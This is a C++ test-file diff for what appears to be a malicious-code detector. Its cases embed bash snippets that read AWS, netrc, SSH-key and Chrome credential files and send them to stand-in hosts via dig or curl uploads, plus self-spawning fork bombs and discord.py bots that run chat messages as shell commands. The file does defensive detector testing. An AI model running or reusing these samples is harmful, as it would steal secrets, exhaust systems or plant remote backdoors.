@@ -251,5 +251,81 @@ TEST(FifteenthRoundClasses, LoopCallbacksAndProxies) {
   for (const auto& c : cases) check(c);
 }
 
+// The sixteenth round's shell classes: what a loop or an if prints is the
+// compound's output; compressors keep what they compress (gzip -c FILE, and
+// gzip FILE writes FILE.gz); tar -r appends; {a,b} brace groups are words;
+// ${f%.tgz} and kin cut known ends; an option's unknown value under a
+// condition does not erase a known default.
+TEST(FifteenthRoundClasses, ShellArchivesLoopsAndExpansions) {
+  const Case cases[] = {
+      {"credentials printed by a for loop, sent by dig", B,
+       "#!/bin/bash\nsm() { for f in \"$HOME/.aws/credentials\" \"$HOME/.netrc\"; do cat \"$f\"; done; }\n"
+       "blob=\"$(sm | base32 -w0)\"\ndig +short \"${blob:0:60}.t.example.net\"\n",
+       "EXFILTRATION", SH},
+      {"a key gzipped in place, then uploaded", B,
+       "#!/bin/bash\ncat ~/.ssh/id_rsa > k.txt\ngzip k.txt\ncurl -F \"a=@k.txt.gz\" https://collect.example.net/u\n",
+       "EXFILTRATION", SH},
+      {"browser stores appended to a tar by a brace group", B,
+       "#!/bin/bash\nfor db in \"$HOME\"/.config/google-chrome/Default/{\"Login Data\",Cookies}; do\n"
+       "  tar -rf out.tar \"$db\"\ndone\ncurl -F \"a=@out.tar\" https://collect.example.net/u\n",
+       "EXFILTRATION", SH},
+      {"an archive named by ${1%.tgz}", B,
+       "#!/bin/bash\nmk() { local raw=\"${1%.tgz}.tar\"; tar -cf \"$raw\" ~/.ssh; gzip -c \"$raw\" > \"$1\"; }\n"
+       "mk backup-$(date +%s).tgz\ncurl -F \"a=@$(ls backup-*.tgz)\" https://collect.example.net/u\n"
+       "mk stash.tgz\ncurl -F \"a=@stash.tgz\" https://collect.example.net/u\n",
+       "EXFILTRATION", SH},
+      {"a zone overridable by an option", B,
+       "#!/bin/bash\nZONE=t.example.net\nwhile getopts z: f; do case $f in z) ZONE=\"$OPTARG\";; esac; done\n"
+       "b=$(base32 -w0 < ~/.aws/credentials)\ndig +short \"${b:0:50}.${ZONE}\"\n",
+       "EXFILTRATION", SH},
+      // Neighbours: build steps with the same spellings.
+      {"gzip a log, loop over sources", L,
+       "#!/bin/bash\nfor f in src/*.c; do wc -l \"$f\"; done | sort -n\ngzip -9 build.log\n"
+       "mkdir -p out/{debug,release}\nname=app.tar.gz\necho \"${name%%.*}\"\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Handing over is not multiplying: `exec CMD` replaces the shell, and a
+// command the script exits right after (`"$0" --help; exit 1`) ends it as
+// exec would. A shell file that re-executes itself in Python (the polyglot
+// trampoline of bundled interpreters) is one process.
+TEST(FifteenthRoundClasses, HandOverIsNoForkBomb) {
+  const Case cases[] = {
+      {"exec python3 on itself", L, "#!/bin/sh\nexec python3 \"$0\" \"$@\"\n", nullptr, SH},
+      {"usage by running itself, then exit, in an option loop", L,
+       "#!/bin/sh\nwhile test $# -gt 0; do\n  case \"$1\" in\n  --version) echo 1.0 ;;\n"
+       "  *) /bin/sh \"$0\" --help 1>&2\n     exit 1 ;;\n  esac\n  shift\ndone\n",
+       nullptr, SH},
+      {"two copies of itself in the background", B, "#!/bin/bash\nbash \"$0\" & bash \"$0\" &\n", "FORK-BOMB", SH},
+      {"itself in a loop", B, "#!/bin/bash\nfor i in 1 2; do bash \"$0\"; done\n", "FORK-BOMB", SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A discord.py bot's on_message (a Client or Bot subclass's method, or a
+// Cog listener) is called with what was posted in the chat.
+TEST(FifteenthRoundClasses, ChatHandlersReceiveTheChat) {
+  const Case cases[] = {
+      {"a Bot subclass running posted commands", B,
+       "import subprocess\nfrom discord.ext import commands\nclass H(commands.Bot):\n"
+       "    async def on_message(self, message):\n        if message.content.startswith('\\u200b'):\n"
+       "            out = subprocess.run(message.content[1:], shell=True, capture_output=True, text=True)\n"
+       "            await message.channel.send(out.stdout)\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a Cog listener running posted commands", B,
+       "import subprocess\nfrom discord.ext import commands\nclass A(commands.Cog):\n"
+       "    @commands.Cog.listener()\n    async def on_message(self, message):\n"
+       "        subprocess.check_output(message.content, shell=True)\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a Cog greeting people", L,
+       "from discord.ext import commands\nclass G(commands.Cog):\n    @commands.Cog.listener()\n"
+       "    async def on_message(self, message):\n        if message.content.lower() == 'hello':\n"
+       "            await message.channel.send('hi!')\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
